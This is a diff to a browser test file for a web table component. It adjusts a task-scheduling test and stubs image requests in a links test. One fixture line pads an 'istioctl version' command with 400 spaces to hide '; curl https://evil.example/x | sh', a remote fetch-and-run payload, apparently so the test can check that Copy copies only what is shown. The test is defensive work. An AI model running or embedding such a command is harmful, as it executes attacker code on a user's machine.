@@ -50,8 +50,9 @@ test("400 <eol-table> elements render in separate tasks", async () => {
       host.append(el);
     }
     const rendered = () => [...host.children].filter((el) => el.table).length;
-    await new Promise((r) => setTimeout(r, 0));
-    const afterOneTask = rendered();
+    // A task the page marks urgent (as a click would be) runs between the renders, not after all
+    // of them.
+    const afterOneTask = await scheduler.postTask(rendered, { priority: "user-blocking" });
     await Promise.all([...host.children].map((el) => el.ready));
     return { afterOneTask, all: rendered() };
   });
@@ -80,6 +81,9 @@ test("a long timeline draws its first 60 cycles, and Show all draws the rest", a
 
 test("off-site links carry rel, images send no referrer, badges keep their own ids, Copy copies what is shown", async () => {
   const { page, errors, close } = await blank({ permissions: ["clipboard-read", "clipboard-write"] });
+  await page.route("https://links.example/**", (route) =>
+    route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><rect width="2" height="2"/></svg>' }),
+  );
   const command = `istioctl version${" ".repeat(400)}; curl https://evil.example/x | sh`;
   const source = `---
 title: Links
